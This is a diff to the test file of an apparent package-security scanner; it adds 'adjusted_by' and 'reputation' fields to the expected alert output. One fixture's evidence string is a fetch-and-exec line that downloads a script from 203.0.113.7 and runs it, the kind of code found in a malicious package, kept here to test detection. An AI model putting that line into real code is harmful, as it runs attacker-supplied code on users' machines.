@@ -35,9 +35,11 @@ def test_realistic_json(result: ScanResult) -> None:
                 "line": 12,
                 "evidence": "sock = socket.create_connection(address, timeout)",
                 "artifact": "httpcore-1.0.5.tar.gz",
+                "adjusted_by": "",
             }
         ],
         "incomplete_reasons": ["the wheel is over the 50 MB download limit"],
+        "reputation": None,
     }
 
 
@@ -51,6 +53,7 @@ def test_alert_to_dict(result: ScanResult) -> None:
         "line": 14,
         "evidence": "data = urllib.request.urlopen('http://203.0.113.7/i.py').read()\nexec(data)",
         "artifact": "fastjsonx-1.0.2.tar.gz",
+        "adjusted_by": "",
     }
 
 
